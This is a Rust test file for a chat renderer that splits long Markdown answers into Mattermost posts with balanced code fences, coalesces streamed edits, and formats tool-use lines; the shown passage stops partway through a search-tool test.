//! Tests for `render`: splitting, coalescing and tool-use lines.

use std::collections::HashSet;
use std::time::{Duration, Instant};

use proptest::prelude::*;
use serde_json::{json, Value};
use session_manager::chat::mattermost::MAX_POST_CHARS as MATTERMOST_MAX_POST_CHARS;
use session_manager::chat::render::{
    split_message, tool_use_line, CoalesceConfig, PostOp, TurnRenderer, MIN_SPLIT_CHARS,
    TOOL_ARG_MAX_CHARS,
};

// ---------------------------------------------------------------------------
// Independent fence scanner and reconstruction checker
// ---------------------------------------------------------------------------

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
struct TestFence {
    ch: char,
    len: usize,
}

fn after_indent(line: &str) -> Option<&str> {
    let spaces = line.len() - line.trim_start_matches(' ').len();
    (spaces <= 3).then(|| &line[spaces..])
}

fn opener(line: &str) -> Option<TestFence> {
    let line = line.strip_suffix('\r').unwrap_or(line);
    let rest = after_indent(line)?;
    let ch = rest.chars().next()?;
    if ch != '`' && ch != '~' {
        return None;
    }
    let len = rest.chars().take_while(|&c| c == ch).count();
    if len < 3 || (ch == '`' && rest[len..].contains('`')) {
        return None;
    }
    Some(TestFence { ch, len })
}

fn closes(line: &str, fence: TestFence) -> bool {
    let Some(rest) = after_indent(line) else {
        return false;
    };
    let len = rest.chars().take_while(|&c| c == fence.ch).count();
    len >= fence.len && rest[len..].chars().all(|c| matches!(c, ' ' | '\t' | '\r'))
}

/// Fence open at the end of `text`, scanning it as a whole document.
fn end_state(text: &str) -> Option<TestFence> {
    let mut state = None;
    for line in text.split('\n') {
        state = match state {
            None => opener(line),
            Some(f) if closes(line, f) => None,
            Some(f) => Some(f),
        };
    }
    state
}

fn balanced(text: &str) -> bool {
    end_state(text).is_none()
}

fn chars(s: &str) -> usize {
    s.chars().count()
}

/// Checks that `parts` are `original` cut into consecutive slices, each
/// wrapped only in the documented inserted fence lines: a part continuing a
/// fence starts with an opener line of the input plus `\n`, and a part ending
/// inside one ends with a closing run (preceded by an inserted `\n` only when
/// the content does not end with one) of the fence that the next part reopens.
/// With `allow_ws_drop`, whitespace-only text between parts or at the end may
/// be missing.
fn check_reconstruction(parts: &[String], original: &str, allow_ws_drop: bool) {
    let mut memo = HashSet::new();
    assert!(
        decode(parts, 0, 0, None, original, allow_ws_drop, &mut memo),
        "parts do not reconstruct the original\noriginal: {original:?}\nparts: {parts:#?}"
    );
}

type Memo = HashSet<(usize, usize, Option<TestFence>)>;

fn decode(
    parts: &[String],
    i: usize,
    pos: usize,
    reopen: Option<TestFence>,
    original: &str,
    allow_ws_drop: bool,
    memo: &mut Memo,
) -> bool {
    if i == parts.len() {
        let rest = &original[pos..];
        return (rest.is_empty() && reopen.is_none()) || (allow_ws_drop && rest.trim().is_empty());
    }
    if !memo.insert((i, pos, reopen)) {
        return false;
    }
    let mut body = parts[i].as_str();
    if let Some(fence) = reopen {
        let Some(nl) = body.find('\n') else {
            return false;
        };
        let line = &body[..nl];
        if opener(line) != Some(fence) || !original.contains(line) {
            return false;
        }
        body = &body[nl + 1..];
    }
    let mut starts = vec![pos];
    if allow_ws_drop {
        for (off, c) in original[pos..].char_indices() {
            if !c.is_whitespace() {
                break;
            }
            starts.push(pos + off + c.len_utf8());
        }
    }
    for start in starts {
        let rest = &original[start..];
        if rest.starts_with(body)
            && decode(
                parts,
                i + 1,
                start + body.len(),
                None,
                original,
                allow_ws_drop,
                memo,
            )
        {
            return true;
        }
        let Some(ch @ ('`' | '~')) = body.chars().last() else {
            continue;
        };
        let run = body.chars().rev().take_while(|&c| c == ch).count();
        let before = &body[..body.len() - run];
        if run < 3 || !before.ends_with('\n') {
            continue;
        }
        let fence = TestFence { ch, len: run };
        let with_newline = before;
        let without_newline = &before[..before.len() - 1];
        for content in [with_newline, without_newline] {
            let shape_ok = content.len() == with_newline.len() || !content.ends_with('\n');
            if shape_ok
                && !content.is_empty()
                && rest.starts_with(content)
                && decode(
                    parts,
                    i + 1,
                    start + content.len(),
                    Some(fence),
                    original,
                    allow_ws_drop,
                    memo,
                )
            {
                return true;
            }
        }
    }
    false
}

fn assert_split_ok(text: &str, max: usize) -> Vec<String> {
    let parts = split_message(text, max);
    let limit = max.max(MIN_SPLIT_CHARS);
    for (i, part) in parts.iter().enumerate() {
        assert!(
            chars(part) <= limit,
            "part {i} has {} chars > {limit}",
            chars(part)
        );
        assert!(!part.is_empty(), "part {i} is empty");
        if i + 1 < parts.len() {
            assert!(balanced(part), "part {i} has an unclosed fence: {part:?}");
        } else {
            assert_eq!(end_state(part), end_state(text), "last part fence state");
        }
    }
    check_reconstruction(&parts, text, false);
    parts
}

// ---------------------------------------------------------------------------
// split_message
// ---------------------------------------------------------------------------

const PROSE: &str = "Rust’s ownership model — with its borrow checker — rules out data races; \
                     数据竞争 cannot happen in safe code. Emoji check: 🦀🚀✨ and naïve café. ";

fn rust_block(lines: usize, tag: usize) -> String {
    let mut s = String::from("```rust\n");
    for i in 0..lines {
        s.push_str(&format!(
            "    let value_{tag}_{i} = compute(\"αβγ — {i}\", {i}); // 🦀 step {i}\n"
        ));
    }
    s.push_str("```\n");
    s
}

fn tilde_block(lines: usize) -> String {
    let mut s = String::from("~~~text\n");
    for i in 0..lines {
        s.push_str(&format!(
            "log line {i}: ``` inside tildes is content — ok ✓\n"
        ));
    }
    s.push_str("~~~\n");
    s
}

fn big_markdown() -> String {
    let mut s = String::from("# Report — résumé 🦀\n\n");
    for section in 0..20 {
        s.push_str(&format!("## Section {section} — 概要\n\n"));
        for p in 0..5 {
            s.push_str(&PROSE.repeat(2 + (p + section) % 4));
            s.push_str("\n\n");
        }
        match section % 4 {
            0 => s.push_str(&rust_block(40, section)),
            1 => s.push_str(&tilde_block(30)),
            2 if section == 6 => s.push_str(&rust_block(330, section)),
            _ => s.push_str("- item one\n- item two — with `inline` code\n"),
        }
        s.push('\n');
    }
    s
}

#[test]
fn hundred_kb_answer() {
    let text = big_markdown();
    assert!(text.len() >= 100_000, "only {} bytes", text.len());
    let giant = rust_block(330, 6);
    assert!(
        chars(&giant) > MATTERMOST_MAX_POST_CHARS,
        "giant block too small"
    );
    let parts = assert_split_ok(&text, MATTERMOST_MAX_POST_CHARS);
    assert!(parts.len() >= 6, "{} parts", parts.len());
    assert!(
        parts.iter().skip(1).any(|p| p.starts_with("```rust\n")),
        "the giant block is continued with its info string"
    );
    for part in &parts {
        assert!(balanced(part));
    }
}

#[test]
fn empty_input_gives_no_parts() {
    assert!(split_message("", 100).is_empty());
    assert!(split_message("", 0).is_empty());
}

#[test]
fn text_under_the_limit_is_unchanged() {
    let text = "Short — but with ```rust\nfn main() {}\n``` and 🦀 emoji\n\n";
    assert_eq!(split_message(text, 1000), vec![text.to_owned()]);
    let exact = "é".repeat(100);
    assert_eq!(split_message(&exact, 100), vec![exact.clone()]);
    let unclosed = "```rust\nlet x = 1;\n";
    assert_eq!(split_message(unclosed, 100), vec![unclosed.to_owned()]);
    let blank = " \n\n ";
    assert_eq!(split_message(blank, 100), vec![blank.to_owned()]);
}

#[test]
fn tiny_limits_are_raised_to_the_minimum() {
    let text = "word ".repeat(100);
    for max in [0, 1, 10, 63] {
        let parts = assert_split_ok(&text, max);
        assert!(parts.iter().all(|p| chars(p) <= MIN_SPLIT_CHARS));
        assert!(parts.len() > 1);
    }
}

#[test]
fn prefers_paragraph_boundaries() {
    let paragraphs: Vec<String> = (0..20)
        .map(|i| format!("Paragraph {i} talks about things — briefly.\nSecond line {i}."))
        .collect();
    let text = paragraphs.join("\n\n");
    let parts = assert_split_ok(&text, 200);
    assert!(parts.len() > 3);
    for part in &parts[..parts.len() - 1] {
        assert!(part.ends_with("\n\n"), "not cut at a paragraph: {part:?}");
        assert!(chars(part) >= 100, "wasteful cut: {part:?}");
    }
    for part in &parts[1..] {
        assert!(part.starts_with("Paragraph"), "bad start: {part:?}");
    }
}

#[test]
fn headings_stay_with_their_section() {
    let text: String = (0..30)
        .map(|i| format!("## Title {i}\n\nSome paragraph text for section {i}, short.\n\n"))
        .collect();
    for max in [100, 150, 190, 256] {
        let parts = assert_split_ok(&text, max);
        for part in &parts[..parts.len() - 1] {
            let last = part.trim_end().lines().last().unwrap();
            assert!(
                !last.starts_with('#'),
                "orphaned heading at max {max}: {part:?}"
            );
        }
    }
}

#[test]
fn falls_back_to_lines_then_words() {
    let lines: String = (0..40)
        .map(|i| format!("line {i} of a long list\n"))
        .collect();
    let parts = assert_split_ok(&lines, 100);
    for part in &parts[..parts.len() - 1] {
        assert!(part.ends_with('\n'), "not cut at a line: {part:?}");
    }
    let words = "alpha beta gamma delta epsilon ".repeat(30);
    let parts = assert_split_ok(words.trim_end(), 100);
    for part in &parts[..parts.len() - 1] {
        assert!(part.ends_with(' '), "not cut between words: {part:?}");
        assert!(!part.ends_with("  "));
    }
    for part in &parts[1..] {
        assert!(!part.starts_with(' '));
    }
}

#[test]
fn word_cuts_do_not_start_parts_with_block_markers() {
    let text = "alpha # beta - gamma 12. delta > eps * zeta + eta | theta ".repeat(40);
    let parts = assert_split_ok(&text, 100);
    assert!(parts.len() > 10);
    for part in &parts[1..] {
        let first = part.split(' ').next().unwrap();
        assert!(
            first.chars().all(char::is_alphabetic),
            "part starts with a block marker: {part:?}"
        );
    }
}

#[test]
fn giant_word_is_cut_mid_word_at_full_size() {
    let text = "x".repeat(1000);
    let parts = assert_split_ok(&text, 100);
    assert_eq!(parts.len(), 10);
    assert!(parts.iter().all(|p| chars(p) == 100));
}

#[test]
fn multibyte_text_is_cut_on_char_boundaries() {
    let text = "—🦀漢字é👩\u{200D}💻e\u{301}".repeat(200);
    for max in [64, 65, 77, 100, 333] {
        let parts = assert_split_ok(&text, max);
        assert_eq!(parts.concat(), text);
        for part in &parts[1..] {
            let first = part.chars().next().unwrap();
            assert!(
                first != '\u{200D}' && first != '\u{301}',
                "split a grapheme: {part:?}"
            );
        }
        for part in &parts {
            assert!(!part.ends_with('\u{200D}'));
        }
    }
}

#[test]
fn prefers_cutting_before_a_code_block() {
    // A 75-char line, then a long code block: cutting before the block
    // (76% of the window) beats cutting inside it.
    let prose = format!("{}\n", "intro text ".repeat(7).trim_end());
    assert_eq!(chars(&prose), 77);
    let text = format!("{prose}{}tail\n", rust_block(10, 0));
    let parts = assert_split_ok(&text, 100);
    assert_eq!(parts[0], prose);
    assert!(parts[1].starts_with("```rust\n    let value_0_0"));
}

#[test]
fn prefers_cutting_after_a_code_block() {
    let code = "```\nshort code\nmore code here\n```\n";
    let text = format!(
        "{}\n{code}{}",
        "a".repeat(40),
        "trailing prose without paragraph breaks ".repeat(5)
    );
    let parts = assert_split_ok(&text, 100);
    assert!(parts[0].ends_with("```\n"), "{:?}", parts[0]);
    assert_eq!(chars(&parts[0]), 41 + chars(code));
}

#[test]
fn reopens_fence_with_info_string() {
    let text = format!("Intro.\n\n{}Outro.\n", rust_block(20, 1));
    let parts = assert_split_ok(&text, 120);
    assert!(parts.len() > 2);
    let inside: Vec<&String> = parts
        .iter()
        .skip(1)
        .filter(|p| p.starts_with("```rust\n"))
        .collect();
    assert!(!inside.is_empty());
    for part in &parts[..parts.len() - 1] {
        assert!(part.ends_with("```") || part.ends_with("```\n") || part.ends_with("\n\n"));
    }
}

#[test]
fn tilde_fences_are_closed_and_reopened_with_tildes() {
    let text = tilde_block(20);
    let parts = assert_split_ok(&text, 100);
    assert!(parts.len() > 2);
    for part in &parts[..parts.len() - 1] {
        assert!(part.ends_with("\n~~~"), "{part:?}");
    }
    for part in &parts[1..] {
        assert!(part.starts_with("~~~text\n"), "{part:?}");
    }
}

#[test]
fn inner_shorter_runs_do_not_close_and_longer_closer_is_respected() {
    let mut text = String::from("````markdown\n");
    for i in 0..15 {
        text.push_str(&format!("```rust\nlet a{i} = {i};\n```\n"));
    }
    text.push_str("``````\nafter the block\n");
    let parts = assert_split_ok(&text, 90);
    assert!(parts.len() > 2);
    for part in &parts[..parts.len() - 1] {
        assert!(
            part.ends_with("\n````") || part.ends_with("\n``````\n"),
            "{part:?}"
        );
    }
    for part in &parts[1..] {
        assert!(
            part.starts_with("````markdown\n") || part == "after the block\n",
            "{part:?}"
        );
    }
}

#[test]
fn indented_and_tabbed_runs_are_not_fences() {
    let text = format!(
        "    ```\n{}\n\t~~~\n{}",
        "word ".repeat(40),
        "more ".repeat(40)
    );
    let parts = assert_split_ok(&text, 80);
    assert_eq!(parts.concat(), text, "nothing inserted");
}

#[test]
fn crlf_text_is_handled() {
    let text = format!(
        "Intro\r\n\r\n```py\r\n{}```\r\nend\r\n",
        "print('x — y')\r\n".repeat(20)
    );
    let parts = assert_split_ok(&text, 100);
    for part in &parts[1..] {
        assert!(!part.starts_with('\n'));
    }
    assert!(parts.iter().skip(1).any(|p| p.starts_with("```py\n")));
}

#[test]
fn pathological_fence_like_line_still_gives_full_parts() {
    // Too long to be an opener, but every prefix of it looks like a fence.
    let text = format!("{}\nend\n", "`".repeat(40_000));
    let parts = split_message(&text, MATTERMOST_MAX_POST_CHARS);
    assert_eq!(parts.len(), 3);
    assert!(parts.iter().all(|p| chars(p) <= MATTERMOST_MAX_POST_CHARS));
    assert_eq!(parts.concat(), text);

    let t0 = Instant::now();
    let mut r = TurnRenderer::new(CoalesceConfig::for_post_limit(MATTERMOST_MAX_POST_CHARS));
    let mut ops = r.push(&text, t0);
    ops.extend(r.finish(t0));
    assert!(ops.len() <= 4, "{} ops", ops.len());
    assert_eq!(finals(&ops).concat(), text);
}

#[test]
fn very_long_code_line_is_cut_inside_the_fence() {
    let text = format!("```json\n{}\n```\n", "{\"k\":1},".repeat(100));
    let parts = assert_split_ok(&text, 100);
    assert!(parts.len() > 5);
    for part in &parts[..parts.len() - 1] {
        assert!(part.ends_with("\n```"));
    }
}

// ---------------------------------------------------------------------------
// TurnRenderer
// ---------------------------------------------------------------------------

fn cfg(max: usize, soft: usize, edits: u32) -> CoalesceConfig {
    CoalesceConfig {
        max_post_chars: max,
        soft_limit_chars: soft,
        min_edit_interval: Duration::from_secs(1),
        max_edits_per_post: edits,
    }
}

fn ms(t0: Instant, millis: u64) -> Instant {
    t0 + Duration::from_millis(millis)
}

fn create(slot: usize, text: &str) -> PostOp {
    PostOp::Create {
        slot,
        text: text.to_owned(),
    }
}

fn update(slot: usize, text: &str) -> PostOp {
    PostOp::Update {
        slot,
        text: text.to_owned(),
    }
}

/// Final text of every slot, in slot order.
fn finals(ops: &[PostOp]) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for op in ops {
        let slot = op.slot();
        if slot == out.len() {
            out.push(op.text().to_owned());
        } else {
            out[slot] = op.text().to_owned();
        }
    }
    out
}

#[test]
fn default_config_values() {
    let c = CoalesceConfig::for_post_limit(MATTERMOST_MAX_POST_CHARS);
    assert_eq!(c.max_post_chars, 16_383);
    assert_eq!(c.soft_limit_chars, 15_015, "11/12 of the limit");
    assert_eq!(c.min_edit_interval, Duration::from_secs(1));
    assert_eq!(c.max_edits_per_post, 30);
    let n = cfg(10, 5000, 0).normalized();
    assert_eq!(
        (n.max_post_chars, n.soft_limit_chars, n.max_edits_per_post),
        (64, 64, 1)
    );
}

#[test]
fn first_push_creates_immediately() {
    let t0 = Instant::now();
    let mut r = TurnRenderer::new(CoalesceConfig::for_post_limit(MATTERMOST_MAX_POST_CHARS));
    assert_eq!(r.next_deadline(), None);
    assert_eq!(r.push("Hello", t0), vec![create(0, "Hello")]);
    assert_eq!(r.next_deadline(), None, "nothing pending");
}

#[test]
fn whitespace_waits_for_real_text() {
    let t0 = Instant::now();
    let mut r = TurnRenderer::new(CoalesceConfig::for_post_limit(MATTERMOST_MAX_POST_CHARS));
    assert!(r.push("\n", t0).is_empty());
    assert!(r.push("  ", ms(t0, 10)).is_empty());
    assert_eq!(r.next_deadline(), None);
    assert_eq!(r.push("Hi", ms(t0, 20)), vec![create(0, "\n  Hi")]);
}

#[test]
fn whitespace_only_turn_posts_nothing() {
    let t0 = Instant::now();
    let mut r = TurnRenderer::new(CoalesceConfig::for_post_limit(MATTERMOST_MAX_POST_CHARS));
    assert!(r.push(" \n\n", t0).is_empty());
    assert!(r.finish(ms(t0, 5000)).is_empty());
}

#[test]
fn pushes_within_interval_are_coalesced_until_poll() {
    let t0 = Instant::now();
    let mut r = TurnRenderer::new(CoalesceConfig::for_post_limit(MATTERMOST_MAX_POST_CHARS));
    assert_eq!(r.push("Hello", t0).len(), 1);
    assert!(r.push(", wor", ms(t0, 100)).is_empty());
    assert!(r.push("ld", ms(t0, 400)).is_empty());
    assert_eq!(r.next_deadline(), Some(ms(t0, 1000)));
    assert!(r.poll(ms(t0, 999)).is_empty());
    assert_eq!(r.poll(ms(t0, 1000)), vec![update(0, "Hello, world")]);
    assert_eq!(r.next_deadline(), None);
    assert!(r.poll(ms(t0, 5000)).is_empty(), "no no-op edits");
    // A push after the interval is sent at once.
    assert_eq!(r.push("!", ms(t0, 2500)), vec![update(0, "Hello, world!")]);
    assert!(r.push("?", ms(t0, 2600)).is_empty());
    assert_eq!(r.next_deadline(), Some(ms(t0, 3500)));
}

#[test]
fn finish_flushes_ignoring_the_interval() {
    let t0 = Instant::now();
    let mut r = TurnRenderer::new(CoalesceConfig::for_post_limit(MATTERMOST_MAX_POST_CHARS));
    r.push("Hello", t0);
    assert!(r.push(" world", ms(t0, 10)).is_empty());
    assert_eq!(r.finish(ms(t0, 20)), vec![update(0, "Hello world")]);
    assert_eq!(r.next_deadline(), None);
    assert!(r.finish(ms(t0, 30)).is_empty());
}

#[test]
fn finish_without_pending_text_does_nothing() {
    let t0 = Instant::now();
    let mut r = TurnRenderer::new(CoalesceConfig::for_post_limit(MATTERMOST_MAX_POST_CHARS));
    assert!(r.finish(t0).is_empty());
    r.push("Done.", t0);
    assert!(r.finish(ms(t0, 1)).is_empty());
}

#[test]
fn rolls_over_at_the_soft_limit() {
    let t0 = Instant::now();
    let mut r = TurnRenderer::new(cfg(300, 200, 30));
    let mut ops = Vec::new();
    let mut pushed = String::new();
    for i in 0..12 {
        let para = format!("Paragraph {i}: lorem ipsum dolor sit amet.\n\n");
        pushed.push_str(&para);
        ops.extend(r.push(&para, ms(t0, i * 10)));
    }
    ops.extend(r.finish(ms(t0, 200)));
    let fin = finals(&ops);
    assert!(fin.len() >= 3, "{fin:#?}");
    for text in &fin[..fin.len() - 1] {
        assert!(chars(text) <= 200);
        assert!(text.ends_with("\n\n"), "not a paragraph cut: {text:?}");
    }
    for text in &fin[1..] {
        assert!(text.starts_with("Paragraph"));
    }
    assert_eq!(fin.concat(), pushed);
    let creates: Vec<usize> = ops
        .iter()
        .filter(|o| matches!(o, PostOp::Create { .. }))
        .map(PostOp::slot)
        .collect();
    assert_eq!(creates, (0..fin.len()).collect::<Vec<_>>());
}

#[test]
fn rolls_over_after_max_edits() {
    let t0 = Instant::now();
    let mut r = TurnRenderer::new(cfg(1000, 1000, 3));
    assert_eq!(r.push("a ", t0), vec![create(0, "a ")]);
    assert_eq!(r.push("b ", ms(t0, 1000)), vec![update(0, "a b ")]);
    assert_eq!(r.push("c ", ms(t0, 2000)), vec![update(0, "a b c ")]);
    // Third edit is the last one for slot 0.
    assert_eq!(r.push("d ", ms(t0, 3000)), vec![update(0, "a b c d ")]);
    assert_eq!(r.push("e", ms(t0, 3100)), vec![create(1, "e")]);
    assert_eq!(r.push("f ", ms(t0, 4100)), vec![update(1, "ef ")]);
}

#[test]
fn max_edits_rollover_moves_a_partial_word_to_the_next_post() {
    let t0 = Instant::now();
    let mut r = TurnRenderer::new(cfg(1000, 1000, 1));
    assert_eq!(r.push("Hello", t0), vec![create(0, "Hello")]);
    assert!(r.push(" wor", ms(t0, 500)).is_empty());
    assert_eq!(
        r.poll(ms(t0, 1000)),
        vec![update(0, "Hello "), create(1, "wor")]
    );
    assert_eq!(r.finish(ms(t0, 1001)), Vec::<PostOp>::new());
    assert_eq!(r.push("ld", ms(t0, 1500)), Vec::<PostOp>::new());
    assert_eq!(r.finish(ms(t0, 1600)), vec![update(1, "world")]);
}

#[test]
fn max_edits_rollover_closes_and_reopens_fences() {
    let t0 = Instant::now();
    let mut r = TurnRenderer::new(cfg(1000, 1000, 1));
    let mut ops = r.push("Code:\n```rust\nfn a() {}\n", t0);
    ops.extend(r.push("fn b() {}\n", ms(t0, 1000)));
    assert_eq!(
        ops[1..],
        [update(0, "Code:\n```rust\nfn a() {}\nfn b() {}\n```"),]
    );
    ops.extend(r.push("```\nDone.\n", ms(t0, 1100)));
    ops.extend(r.finish(ms(t0, 1200)));
    let fin = finals(&ops);
    assert_eq!(
        fin,
        vec![
            "Code:\n```rust\nfn a() {}\nfn b() {}\n```",
            "```rust\n```\nDone.\n"
        ]
    );
}

#[test]
fn big_single_push_creates_several_posts() {
    let t0 = Instant::now();
    let mut r = TurnRenderer::new(cfg(300, 200, 30));
    let text: String = (0..40)
        .map(|i| format!("Sentence number {i} of the answer. "))
        .collect();
    let ops = r.push(&text, t0);
    assert!(ops.len() >= 5);
    for (i, op) in ops.iter().enumerate() {
        assert_eq!(op, &create(i, op.text()));
        assert!(chars(op.text()) <= 200);
    }
    let mut all = ops;
    all.extend(r.finish(ms(t0, 1)));
    assert_eq!(finals(&all).concat(), text);
}

#[test]
fn code_block_across_rollover_is_closed_and_reopened() {
    let t0 = Instant::now();
    let mut r = TurnRenderer::new(cfg(300, 200, 30));
    let text = format!("Intro.\n\n{}Done.\n", rust_block(12, 3));
    let mut ops = Vec::new();
    let chars_vec: Vec<char> = text.chars().collect();
    for (i, chunk) in chars_vec.chunks(17).enumerate() {
        let piece: String = chunk.iter().collect();
        ops.extend(r.push(&piece, ms(t0, i as u64 * 300)));
    }
    ops.extend(r.finish(ms(t0, 100_000)));
    let fin = finals(&ops);
    assert!(fin.len() >= 3);
    for text in &fin {
        assert!(balanced(text), "{text:?}");
        assert!(chars(text) <= 200);
    }
    assert!(fin[1..].iter().any(|t| t.starts_with("```rust\n")));
    check_reconstruction(&fin, &text, false);
}

// ---------------------------------------------------------------------------
// Property tests
// ---------------------------------------------------------------------------

fn token() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "word",
        "lorem",
        "ünïcødé",
        "—",
        "🦀",
        "漢字",
        "👩\u{200D}💻",
        "e\u{301}",
        " ",
        " ",
        "  ",
        "\t",
        "\n",
        "\n",
        "\n",
        "\n\n",
        "\r\n",
        "```rust\n",
        "```\n",
        "~~~\n",
        "~~~~ py\n",
        "````\n",
        "   ```\n",
        "    ```\n",
        "`code`",
        "``a`b``",
        "supercalifragilisticexpialidocious-and-then-some-more-letters",
    ])
}

fn markdown() -> impl Strategy<Value = String> {
    prop::collection::vec(token(), 0..250).prop_map(|tokens| tokens.concat())
}

#[derive(Debug, Clone)]
struct Logged {
    at: Instant,
    op: PostOp,
}

fn run_renderer(
    config: CoalesceConfig,
    text: &str,
    chunk_sizes: &[usize],
    steps: &[u64],
) -> (Vec<Logged>, TurnRenderer, Instant) {
    let t0 = Instant::now();
    let mut now = t0;
    let mut r = TurnRenderer::new(config);
    let mut log = Vec::new();
    let all: Vec<char> = text.chars().collect();
    let mut idx = 0;
    let mut k = 0;
    while idx < all.len() {
        let n = chunk_sizes[k % chunk_sizes.len()];
        now += Duration::from_millis(steps[k % steps.len()]);
        k += 1;
        if let Some(deadline) = r.next_deadline() {
            if deadline <= now {
                let ops = r.poll(now);
                let progressed = !ops.is_empty() || r.next_deadline().is_none_or(|d| d > now);
                assert!(progressed, "poll at a past deadline made no progress");
                log.extend(ops.into_iter().map(|op| Logged { at: now, op }));
            }
        }
        let end = (idx + n).min(all.len());
        let piece: String = all[idx..end].iter().collect();
        idx = end;
        log.extend(
            r.push(&piece, now)
                .into_iter()
                .map(|op| Logged { at: now, op }),
        );
    }
    now += Duration::from_millis(steps[k % steps.len()]);
    log.extend(r.finish(now).into_iter().map(|op| Logged { at: now, op }));
    (log, r, now)
}

fn check_log(config: CoalesceConfig, text: &str, log: &[Logged]) {
    let config = config.normalized();
    let ops: Vec<PostOp> = log.iter().map(|l| l.op.clone()).collect();
    if text.trim().is_empty() {
        assert!(ops.is_empty(), "whitespace-only turn posted {ops:?}");
        return;
    }
    assert!(!ops.is_empty());
    let mut texts: Vec<String> = Vec::new();
    let mut times: Vec<Vec<Instant>> = Vec::new();
    let mut updates: Vec<u32> = Vec::new();
    for entry in log {
        let op = &entry.op;
        let text = op.text();
        assert!(chars(text) <= config.max_post_chars);
        assert!(chars(text) <= config.soft_limit_chars);
        assert!(!text.trim().is_empty(), "blank post text");
        match op {
            PostOp::Create { slot, .. } => {
                assert_eq!(*slot, texts.len(), "slots created in order");
                texts.push(text.to_owned());
                times.push(vec![entry.at]);
                updates.push(0);
            }
            PostOp::Update { slot, .. } => {
                assert_eq!(
                    *slot + 1,
                    texts.len(),
                    "update of a finished or unknown slot"
                );
                assert_ne!(texts[*slot], text, "no-op edit");
                texts[*slot] = text.to_owned();
                times[*slot].push(entry.at);
                updates[*slot] += 1;
            }
        }
    }
    for (slot, t) in times.iter().enumerate() {
        assert!(updates[slot] <= config.max_edits_per_post);
        // Every send but the final one respects the interval.
        for pair in t[..t.len() - 1].windows(2) {
            assert!(
                pair[1].duration_since(pair[0]) >= config.min_edit_interval,
                "slot {slot} edited too fast"
            );
        }
    }
    for (i, text) in texts.iter().enumerate() {
        if i + 1 < texts.len() {
            assert!(balanced(text), "final post {i} unbalanced: {text:?}");
        }
    }
    check_reconstruction(&texts, text, true);
}

proptest! {
    #[test]
    fn split_invariants(text in markdown(), max in 0usize..400) {
        assert_split_ok(&text, max);
    }

    #[test]
    fn split_invariants_prose(words in prop::collection::vec("[a-zé🦀 ]{0,30}\n{0,2}", 0..80), max in 64usize..300) {
        let text = words.concat();
        assert_split_ok(&text, max);
    }

    #[test]
    fn renderer_invariants(
        text in markdown(),
        chunk_sizes in prop::collection::vec(1usize..60, 1..20),
        steps in prop::collection::vec(0u64..2500, 1..20),
        max in 64usize..300,
        soft_gap in 0usize..60,
        edits in 1u32..6,
    ) {
        let config = CoalesceConfig {
            max_post_chars: max,
            soft_limit_chars: max.saturating_sub(soft_gap),
            min_edit_interval: Duration::from_millis(1000),
            max_edits_per_post: edits,
        };
        let (log, mut r, now) = run_renderer(config, &text, &chunk_sizes, &steps);
        check_log(config, &text, &log);
        prop_assert_eq!(r.next_deadline(), None);
        prop_assert!(r.finish(now + Duration::from_secs(10)).is_empty());
    }

    #[test]
    fn tool_use_line_never_breaks(name in ".{0,40}", input in arb_json()) {
        let line = tool_use_line(&name, &input);
        prop_assert!(line.starts_with("🔧 "));
        prop_assert!(!line.contains('\n') && !line.contains('\r'));
        prop_assert!(chars(&line) <= 1200);
    }
}

fn arb_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(|n| json!(n)),
        any::<f64>().prop_map(|f| json!(f)),
        ".{0,200}".prop_map(Value::String),
        "[a-z`\n ]{0,300}".prop_map(Value::String),
    ];
    leaf.prop_recursive(3, 32, 6, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
            prop::collection::btree_map(
                prop::sample::select(vec![
                    "command",
                    "file_path",
                    "pattern",
                    "path",
                    "url",
                    "query",
                    "description",
                    "todos",
                    "notebook_path",
                    "x",
                    "prompt",
                ])
                .prop_map(str::to_owned),
                inner,
                0..6
            )
            .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

// ---------------------------------------------------------------------------
// tool_use_line
// ---------------------------------------------------------------------------

#[test]
fn bash_shows_the_command() {
    assert_eq!(
        tool_use_line("Bash", &json!({"command": "ls -la", "description": "List"})),
        "🔧 `Bash` `$ ls -la`"
    );
}

#[test]
fn bash_multiline_and_long_commands_are_shortened() {
    assert_eq!(
        tool_use_line("Bash", &json!({"command": "cd /repo\ncargo test"})),
        "🔧 `Bash` `$ cd /repo…`"
    );
    assert_eq!(
        tool_use_line("Bash", &json!({"command": "\n\n  make  \n"})),
        "🔧 `Bash` `$ make`"
    );
    let long = format!("echo {}", "é".repeat(300));
    let line = tool_use_line("Bash", &json!({ "command": long }));
    let arg = line
        .strip_prefix("🔧 `Bash` `$ ")
        .and_then(|s| s.strip_suffix('`'))
        .unwrap();
    assert_eq!(chars(arg), TOOL_ARG_MAX_CHARS);
    assert!(arg.ends_with('…'));
}

#[test]
fn backticks_in_arguments_cannot_break_markdown() {
    assert_eq!(
        tool_use_line("Bash", &json!({"command": "echo `date`"})),
        "🔧 `Bash` `` $ echo `date` ``"
    );
    assert_eq!(
        tool_use_line("Bash", &json!({"command": "printf '```x```' && a``b"})),
        "🔧 `Bash` ````$ printf '```x```' && a``b````"
    );
    assert_eq!(
        tool_use_line("Grep", &json!({"pattern": "`"})),
        "🔧 `Grep` `` ` ``"
    );
    assert_eq!(tool_use_line("we`ird", &json!({})), "🔧 ``we`ird``");
}

#[test]
fn control_characters_are_replaced() {
    assert_eq!(
        tool_use_line("Bash", &json!({"command": "a\tb\u{7}c\r\nnext"})),
        "🔧 `Bash` `$ a b c…`"
    );
}

#[test]
fn file_tools_show_the_path() {
    for tool in ["Read", "Write", "Edit", "MultiEdit"] {
        assert_eq!(
            tool_use_line(tool, &json!({"file_path": "/src/main.rs", "content": "x"})),
            format!("🔧 `{tool}` `/src/main.rs`")
        );
    }
    assert_eq!(
        tool_use_line(
            "NotebookEdit",
            &json!({"notebook_path": "/n.ipynb", "new_source": "x"})
        ),
        "🔧 `NotebookEdit` `/n.ipynb`"
    );
}

#[test]
fn search_tools_show_pattern_and_path() {
    assert_eq!(
        tool_use_line("Glob", &json!({"pattern": "**/*.rs"})),
        "🔧 `Glob` `**/*.rs`"
    );
    assert_eq!(
        tool_use_line(
            "Grep",
